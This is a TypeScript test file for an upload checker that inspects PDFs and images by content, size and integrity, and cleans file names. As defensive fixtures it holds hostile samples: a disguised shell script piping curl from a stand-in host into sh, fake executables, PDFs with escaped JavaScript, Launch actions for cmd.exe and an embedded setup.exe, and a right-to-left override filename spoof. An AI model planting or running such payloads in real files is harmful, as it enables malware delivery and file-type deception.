import { PDFDocument, PDFName, StandardFonts } from 'pdf-lib'
import sharp from 'sharp'
import { describe, expect, it } from 'vitest'
import { FILE_LIMITS } from '#shared/domain/uploads.ts'
import { FILE_ISSUES, inspectFile, MIN_IMAGE_SIDE_PX, sniffContentType } from './index.ts'
import { handmadePdf, onePage, pdfThatRunsAScript, streamObject, textPdf } from './test-pdfs.ts'

async function realPdf(pages = 1): Promise<Uint8Array> {
  const doc = await PDFDocument.create()
  const font = await doc.embedFont(StandardFonts.Helvetica)
  for (let i = 0; i < pages; i++)
    doc.addPage().drawText(`Certified judgment, page ${i + 1}`, { font, x: 50, y: 700 })
  return doc.save()
}

function photo(width: number, height: number, format: 'png' | 'jpeg'): Promise<Buffer> {
  const image = sharp({ create: { width, height, channels: 3, background: { r: 200, g: 180, b: 150 } } })
  return (format === 'png' ? image.png() : image.jpeg()).toBuffer()
}

describe('inspectFile', () => {
  it('accepts a real PDF, PNG and JPEG and keeps a name that matches the content', async () => {
    const pdf = await realPdf(2)
    expect(await inspectFile(pdf, 'judgment.pdf')).toEqual({
      ok: true,
      contentType: 'application/pdf',
      extension: '.pdf',
      filename: 'judgment.pdf',
      pageCount: 2,
      width: null,
      height: null,
    })
    // The caller's bytes are left whole (pdf.js detaches the buffer it is given).
    expect(pdf.byteLength).toBeGreaterThan(0)

    expect(await inspectFile(await photo(800, 600, 'png'), 'id.png')).toMatchObject({
      ok: true,
      contentType: 'image/png',
      filename: 'id.png',
      width: 800,
      height: 600,
    })
    expect(await inspectFile(await photo(640, 480, 'jpeg'), 'ID Card.JPEG')).toMatchObject({
      ok: true,
      contentType: 'image/jpeg',
      extension: '.jpeg',
      filename: 'ID Card.JPEG',
    })
  })

  it('decides the type by content and gives the stored name the right extension', async () => {
    const png = await photo(400, 400, 'png')
    expect(await inspectFile(png, 'scan.pdf')).toMatchObject({
      ok: true,
      contentType: 'image/png',
      extension: '.png',
      filename: 'scan.png',
    })
    expect(await inspectFile(await realPdf(), 'letter')).toMatchObject({ ok: true, filename: 'letter.pdf' })
    expect(await inspectFile(await realPdf(), 'letter.docx')).toMatchObject({ filename: 'letter.docx.pdf' })
    expect(await inspectFile(await photo(400, 400, 'jpeg'), 'photo.png')).toMatchObject({
      contentType: 'image/jpeg',
      filename: 'photo.jpg',
    })
  })

  it('refuses programs and scripts renamed .pdf with a plain issue', async () => {
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(200)])
    const pe = Buffer.concat([
      Buffer.from('MZ'),
      Buffer.alloc(200),
      Buffer.from('This program cannot be run in DOS mode'),
    ])
    const script = Buffer.from('#!/bin/sh\ncurl http://example.invalid | sh\n%PDF-1.7 pretend\n')
    for (const bytes of [elf, pe, script]) {
      expect(await inspectFile(bytes, 'judgment.pdf')).toEqual({ ok: false, issues: [FILE_ISSUES.program] })
    }
    expect(await inspectFile(Buffer.from('PK\x03\x04rest of a zip'), 'docs.pdf')).toEqual({
      ok: false,
      issues: [FILE_ISSUES.archive],
    })
    expect(await inspectFile(Buffer.from('<html><script>alert(1)</script></html>'), 'x.pdf')).toEqual({
      ok: false,
      issues: [FILE_ISSUES.otherType],
    })
  })

  it('refuses an empty file and one over 10 MB before reading it', async () => {
    expect(await inspectFile(new Uint8Array(0), 'a.pdf')).toEqual({ ok: false, issues: [FILE_ISSUES.empty] })
    const big = new Uint8Array(11 * 1024 * 1024)
    big.set(new TextEncoder().encode('%PDF-1.7\n'))
    expect(await inspectFile(big, 'big.pdf')).toEqual({ ok: false, issues: [FILE_ISSUES.tooLarge] })
    const limit = new Uint8Array(FILE_LIMITS.maxBytes + 1)
    limit.set(new TextEncoder().encode('%PDF-1.7\n'))
    expect(await inspectFile(limit, 'big.pdf')).toEqual({ ok: false, issues: [FILE_ISSUES.tooLarge] })
  })

  it('refuses a truncated or broken PDF', async () => {
    const pdf = await realPdf()
    expect(await inspectFile(pdf.slice(0, Math.floor(pdf.byteLength * 0.6)), 'cut.pdf')).toEqual({
      ok: false,
      issues: [FILE_ISSUES.pdfBroken],
    })
    expect(await inspectFile(new TextEncoder().encode('%PDF-1.7\nnot really\n%%EOF\n'), 'fake.pdf')).toEqual({
      ok: false,
      issues: [FILE_ISSUES.pdfBroken],
    })
  })

  it('refuses a truncated image and one too small to read', async () => {
    const jpeg = await photo(1200, 900, 'jpeg')
    expect(await inspectFile(jpeg.subarray(0, Math.floor(jpeg.length / 2)), 'cut.jpg')).toEqual({
      ok: false,
      issues: [FILE_ISSUES.imageBroken],
    })
    const png = await photo(1200, 900, 'png')
    expect(await inspectFile(png.subarray(0, png.length - 30), 'cut.png')).toEqual({
      ok: false,
      issues: [FILE_ISSUES.imageBroken],
    })
    expect(await inspectFile(await photo(MIN_IMAGE_SIDE_PX - 1, 800, 'png'), 'tiny.png')).toEqual({
      ok: false,
      issues: [FILE_ISSUES.imageTooSmall],
    })
  })

  it('hands a PDF to the reader without a copy only when the caller gives the bytes up', async () => {
    const pdf = await realPdf()
    const size = pdf.byteLength
    expect(await inspectFile(pdf, 'a.pdf')).toMatchObject({ ok: true })
    expect(pdf.byteLength).toBe(size)
    expect(await inspectFile(pdf, 'a.pdf', { mayTakeBytes: true })).toMatchObject({ ok: true, pageCount: 1 })
    expect(pdf.byteLength).toBe(0)
  })

  it('refuses a PDF with scripts, automatic actions or attached files, however the file writes them', async () => {
    const refused = { ok: false, issues: [FILE_ISSUES.pdfActiveContent] }
    // In a compressed object stream, where the bytes never spell the names.
    expect(await inspectFile(await pdfThatRunsAScript(), 'judgment.pdf')).toEqual(refused)
    // Names spelled with #xx escapes (/J#61vaScript is /JavaScript to a reader).
    const escaped = handmadePdf([
      ...onePage({ catalog: '/OpenAction 4 0 R' }),
      '<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>',
    ])
    expect(await inspectFile(escaped, 'judgment.pdf')).toEqual(refused)
    const launch = handmadePdf([...onePage({ page: '/AA << /O 4 0 R >>' }), '<< /S /Launch /F (cmd.exe) >>'])
    expect(await inspectFile(launch, 'judgment.pdf')).toEqual(refused)
    const attached = await textPdf()
    await attached.attach(Buffer.from('MZ not a document'), 'setup.exe', {
      mimeType: 'application/octet-stream',
    })
    expect(await inspectFile(await attached.save(), 'judgment.pdf')).toEqual(refused)
  })

  it('accepts the PDFs scanners and phone apps make: an opening view, links, forms without scripts', async () => {
    const doc = await textPdf()
    doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj([doc.getPage(0).ref, 'Fit']))
    doc.getForm().createTextField('name').addToPage(doc.getPage(0), { x: 50, y: 600 })
    expect(await inspectFile(await doc.save(), 'scan.pdf')).toMatchObject({ ok: true, pageCount: 1 })
    const link =
      '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.com/) >> >>'
    expect(
      await inspectFile(handmadePdf([...onePage({ page: '/Annots [4 0 R]' }), link]), 'a.pdf'),
    ).toMatchObject({
      ok: true,
    })
  })

  it('refuses a PDF whose object streams it cannot read for scripts', async () => {
    const lzw = streamObject(
      '/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode',
      Buffer.from('\x80\x0b\x60\x50'),
    )
    expect(await inspectFile(handmadePdf([...onePage(), lzw]), 'a.pdf')).toEqual({
      ok: false,
      issues: [FILE_ISSUES.pdfUncheckable],
    })
  })

  it('stores a name without folders, control characters or bidirectional controls', async () => {
    const png = await photo(400, 400, 'png')
    // U+202E would show 'invoice\u202Efdp.exe' as 'invoiceexe.pdf'.
    expect(await inspectFile(png, 'C:\\Users\\x\\invoice\u202Efdp.exe')).toMatchObject({
      filename: 'invoicefdp.exe.png',
    })
    for (const mark of [
      '\u202a',
      '\u202b',
      '\u202c',
      '\u202d',
      '\u2066',
      '\u2067',
      '\u2068',
      '\u2069',
      '\u200e',
      '\u200f',
      '\u061c',
    ]) {
      expect(await inspectFile(png, `id${mark} card\u0007.png`)).toMatchObject({ filename: 'id card.png' })
    }
  })

  it('sniffs a PDF header after leading junk, as readers do', () => {
    const bytes = Buffer.concat([Buffer.alloc(100, 0x20), Buffer.from('%PDF-1.4\n')])
    expect(sniffContentType(bytes)).toBe('application/pdf')
    expect(sniffContentType(Buffer.concat([Buffer.alloc(2000, 0x20), Buffer.from('%PDF-1.4\n')]))).toBe(
      'other',
    )
  })
})
